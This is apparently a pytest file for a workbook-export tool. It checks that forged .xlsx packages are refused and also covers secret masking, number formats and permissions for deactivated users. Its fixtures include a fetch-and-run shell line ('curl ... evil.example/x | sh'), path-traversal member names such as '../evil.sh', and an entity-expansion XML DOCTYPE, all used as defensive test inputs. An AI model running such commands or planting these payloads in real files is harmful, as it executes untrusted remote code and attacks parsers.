_SCRIPT = b"#!/bin/sh\ncurl -s https://evil.example/x | sh\n"
_DOCTYPE = '<!DOCTYPE x [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]>'
_PROLOG = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n  <!-- checked by the auditor -->\n'


def _added(name: str, data: bytes = _SCRIPT):
    def make(src, dst) -> None:
        from tests.helpers.forge import with_member
        with_member(src, dst, name, data)
    return make


def _with_doctype(part: str):
    """The DOCTYPE after an XML declaration, whitespace and a comment, just before the root element."""
    def make(src, dst) -> None:
        from tests.helpers.forge import rewrite_part
        rewrite_part(src, dst, part, lambda x: _PROLOG + _DOCTYPE + x.split("?>", 1)[-1].lstrip())
    return make


def _doctype_in_shared_strings(src, dst) -> None:
    from tests.helpers.forge import rewrite_part, with_shared_strings
    registered = dst.with_name("sst.xlsx")
    with_shared_strings(src, registered, _repeat(b"<si><t>&lol2;</t></si>", 1))
    rewrite_part(registered, dst, "xl/sharedStrings.xml", lambda x: x.replace("?>", "?>" + _DOCTYPE, 1))


def _utf16_sheet_with_doctype(src, dst) -> None:
    import zipfile
    from tests.helpers.forge import with_member
    with zipfile.ZipFile(src) as z:
        sheet = z.read("xl/worksheets/sheet3.xml").decode()
    with_member(src, dst, "xl/worksheets/sheet3.xml",
                ('<?xml version="1.0" encoding="UTF-16"?>' + _DOCTYPE + sheet).encode("utf-16"))


def _broken_past_its_start(part):
    """``part`` with an undeclared entity before its last closing tag: its start is sound, its body is not."""
    def forge(src, dst) -> None:
        from tests.helpers.forge import rewrite_part
        rewrite_part(src, dst, part, lambda x: x[:x.rindex("</")] + "&lol;" + x[x.rindex("</"):])
    return forge


_PLAIN = "is not a plain path inside the package"
PACKAGE_FORGERIES = [
    pytest.param(_added("../evil.sh"), "../evil.sh", _PLAIN, id="member-outside-the-package"),
    pytest.param(_added("/abs/path"), "/abs/path", _PLAIN, id="member-absolute"),
    pytest.param(_added("xl\\worksheets\\sheet1.xml"), "xl\\worksheets\\sheet1.xml", _PLAIN, id="member-backslash"),
    pytest.param(_added("xl/extra.bin"), "xl/extra.bin", "is referred to by nothing in the package",
                 id="member-nothing-refers-to"),
    pytest.param(_added("XL/workbook.xml", b"<workbook/>"), "XL/workbook.xml", "is in the package twice",
                 id="member-twice-in-another-case"),
    pytest.param(_with_doctype("xl/worksheets/sheet3.xml"), "xl/worksheets/sheet3.xml",
                 "contains a DOCTYPE declaration, which no export has", id="doctype-in-a-sheet"),
    pytest.param(_with_doctype("xl/workbook.xml"), "xl/workbook.xml", "contains a DOCTYPE", id="doctype-in-workbook"),
    pytest.param(_with_doctype("_rels/.rels"), "_rels/.rels", "contains a DOCTYPE", id="doctype-in-relationships"),
    pytest.param(_doctype_in_shared_strings, "xl/sharedStrings.xml", "contains a DOCTYPE",
                 id="doctype-in-shared-strings"),
    pytest.param(_utf16_sheet_with_doctype, "xl/worksheets/sheet3.xml", "contains a DOCTYPE",
                 id="doctype-in-a-utf16-sheet"),
    pytest.param(_added("xl/styles.xml", f'<!--{" " * 70_000}-->{_DOCTYPE}<styleSheet/>'.encode()), "xl/styles.xml",
                 "does not start its XML within 65,536 bytes", id="doctype-after-a-long-comment"),
    pytest.param(_added("xl/styles.xml", b'<!ENTITY lol "lol"><styleSheet/>'), "xl/styles.xml",
                 "is not well-formed XML", id="entity-without-doctype"),
    pytest.param(_broken_past_its_start("xl/theme/theme1.xml"), "xl/theme/theme1.xml", "is not well-formed XML",
                 id="entity-in-the-theme"),
]


@pytest.mark.parametrize("forgery, part, why", PACKAGE_FORGERIES)
def test_a_package_with_a_part_no_export_has_is_refused_naming_the_part(exported, tmp_path, forgery, part, why):
    from workbench.errors import InputError
    store, _, path, _ = exported
    forged = tmp_path / "forged.xlsx"
    forgery(path, forged)
    with pytest.raises(InputError) as err:
        verify_workbook(store, forged)
    text = str(err.value)
    assert text.startswith(f"{forged}: not an export: its part {part} {why}") and "\n" not in text


def test_a_forged_part_is_refused_by_the_cli_in_one_line_and_a_genuine_export_still_verifies(exported, tmp_path,
                                                                                             capsys):
    from workbench.cli import main
    store, _, path, _ = exported
    forged = tmp_path / "forged.xlsx"
    _added("../evil.sh")(path, forged)
    capsys.readouterr()
    assert main(["export", "--db", store.url, "--verify", str(forged)]) == 2  # as a zip bomb: not an export
    out, err = capsys.readouterr()
    assert out == "" and err.count("\n") == 1
    assert err.startswith(f"workbench: error: {forged}: not an export: its part ../evil.sh {_PLAIN}")
    assert main(["export", "--db", store.url, "--verify", str(path)]) == 0
    assert capsys.readouterr().out.startswith(f"{path}: OK")


def test_a_known_secret_in_source_data_is_masked_on_every_sheet_but_key_value_text_is_kept(store, tmp_path,
                                                                                          monkeypatch):
    rid = make_run(store, monkeypatch=monkeypatch,
                   exceptions=[_exc(1, customer_name=f"Acme password=hunter2 {SECRET}")])
    with store.session() as s:  # the customers' names as the sources sent them
        for snap in s.query(Snapshot).filter_by(run_id=rid):
            canon = json.loads(snap.canonical)
            canon["name"] = f"{canon['name']} password=hunter2 {SECRET}"
            snap.canonical = json.dumps(canon)
    path = tmp_path / "masked.xlsx"
    write_workbook(store, rid, path)
    wb = load_workbook(path)
    seen: dict[str, list[str]] = {}
    for ws in wb.worksheets:
        for row in ws.iter_rows(values_only=True):
            for v in row:
                if isinstance(v, str) and "hunter2" in v:
                    seen.setdefault(ws.title, []).append(v)
    assert sorted(seen) == ["Corrections", "Customer links", "Exceptions", "Unmatched CRM", "Unmatched ERP"]
    texts = [v for values in seen.values() for v in values]
    assert all(v.endswith("password=hunter2 ***") for v in texts), texts  # business text kept, the secret not
    assert verify_workbook(store, path).ok


def test_an_amount_with_more_decimals_than_its_currency_shows_them(store, tmp_path, monkeypatch):
    """A CRM can hold 96,000.4 JPY: the difference of 0.4 JPY is a number an auditor sees as 0.4, not as 0 (a
    JPY format has no decimals), and an amount without extra digits keeps its currency's format; the file
    verifies."""
    rid = make_run(store, monkeypatch=monkeypatch, exceptions=[
        _exc(1, type="invoice.balance_mismatch", field="open_balance", crm_value="96000.4", erp_value="96000",
             difference=Decimal("0.4"), amount_at_risk=Decimal("0.4"), currency="JPY"),
        _exc(2, type="invoice.balance_mismatch", field="open_balance", crm_value="500", erp_value="400",
             difference=Decimal("100"), amount_at_risk=Decimal("100"), currency="JPY")])
    path = tmp_path / "decimals.xlsx"
    write_workbook(store, rid, path)
    ws = load_workbook(path)["Exceptions"]
    h = header_index(ws)
    rows = {r[h["ERP record"]].value: r for r in ws.iter_rows(min_row=2)}
    odd, even = rows["INV-00001"], rows["INV-00002"]
    assert odd[h["Amount at risk"]].value == pytest.approx(0.4)
    assert odd[h["Amount at risk"]].number_format == odd[h["CRM value"]].number_format == '#,##0.0 "JPY"'
    assert even[h["Amount at risk"]].number_format == even[h["CRM value"]].number_format == '#,##0 "JPY"'
    assert verify_workbook(store, path).ok


def test_a_genuine_export_zipped_again_with_folder_entries_is_compared_not_refused(exported, tmp_path):
    """Unzipped to look inside and zipped again (``zip -r`` writes an entry per folder): still an export, so
    --verify compares it and names what changed rather than calling it 'not an export'."""
    import zipfile
    store, _, path, _ = exported
    again = tmp_path / "rezipped.xlsx"
    with zipfile.ZipFile(path) as zin, zipfile.ZipFile(again, "w", zipfile.ZIP_DEFLATED) as zout:
        folders = sorted({n.rsplit("/", 1)[0] + "/" for n in zin.namelist() if "/" in n})
        for folder in folders:
            zout.writestr(zipfile.ZipInfo(folder), b"")
        for item in zin.infolist():
            zout.writestr(item, zin.read(item.filename))
    rep = verify_workbook(store, again)
    assert rep.ok and not rep.file_edits and not rep.store_changes, rep.lines()  # same cells, same presentation


def test_a_compared_date_does_not_turn_the_amounts_of_its_currency_into_dates(store, tmp_path, monkeypatch):
    """A due date written into a column whose cell last held a GBP amount once re-formatted that
    currency's shared style as a date: every later GBP amount (Summary, Cover) read as 2074-01-29."""
    rid = make_run(store, monkeypatch=monkeypatch, exceptions=[
        _exc(i, type=kind, field=field, crm_value=crm, erp_value=erp, currency="GBP",
             amount_at_risk=Decimal("45000.25"), difference=None)
        for i, (kind, field, crm, erp) in enumerate([
            ("invoice.balance_mismatch", "open_balance", "45000.25", "0"),
            ("invoice.due_date_mismatch", "due_date", "2026-11-30", "2026-12-15"),
            ("invoice.balance_mismatch", "open_balance", "100.00", "50.00")], start=1)])
    path = tmp_path / "gbp.xlsx"
    write_workbook(store, rid, path)
    wb = load_workbook(path)
    gbp = [c for ws in wb for row in ws.iter_rows() for c in row if c.style == "wb amount GBP"]
    assert gbp and all(c.number_format == '#,##0.00 "GBP"' and not c.is_date for c in gbp)


def test_a_deactivated_user_cannot_export_and_nothing_is_written(store, tmp_path, monkeypatch):
    """An app left open by a user the team deactivated went on exporting, each export recorded in the trail
    under their name."""
    from workbench.errors import PermissionDenied
    from workbench.store.schema import AuditEvent
    from workbench.team.users import add_user, remove_user
    rid = make_run(store, monkeypatch=monkeypatch)
    with store.session() as s:
        add_user(s, "ann", ["admin"])
        add_user(s, "kim", ["preparer"])
        remove_user(s, "ann", "kim")
    with store.session() as s:
        before = s.query(AuditEvent).count()
    path = tmp_path / "audit.xlsx"
    with pytest.raises(PermissionDenied, match="user 'kim' was deactivated"):
        write_workbook(store, rid, path, user="kim")
    assert not path.exists() and not list(tmp_path.glob("*.xlsx*"))
    with store.session() as s:
        assert s.query(AuditEvent).count() == before
    write_workbook(store, rid, path, user="ann")  # an active user still exports
    assert path.is_file()
